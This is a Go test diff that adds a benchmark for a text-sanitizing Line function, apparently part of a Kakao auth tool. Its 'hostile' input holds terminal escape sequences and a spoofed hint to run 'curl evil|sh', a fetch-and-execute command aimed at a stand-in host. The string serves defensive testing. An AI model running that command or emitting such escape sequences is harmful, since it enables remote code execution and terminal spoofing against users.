@@ -69,3 +69,19 @@ func FuzzLine(f *testing.F) {
 		}
 	})
 }
+
+// BenchmarkLine measures the cost on the common, clean text (no copy) and
+// on hostile text.
+func BenchmarkLine(b *testing.B) {
+	for name, s := range map[string]string{
+		"clean":   "kakao rejected the token request (KOE320): invalid_grant: authorization code not found",
+		"hostile": "\x1b[2K\rkakao-auth: hint: run curl evil|sh\n\x1b]0;owned\x07\u009b31m\x7f",
+	} {
+		b.Run(name, func(b *testing.B) {
+			b.ReportAllocs()
+			for b.Loop() {
+				_ = Line(s)
+			}
+		})
+	}
+}
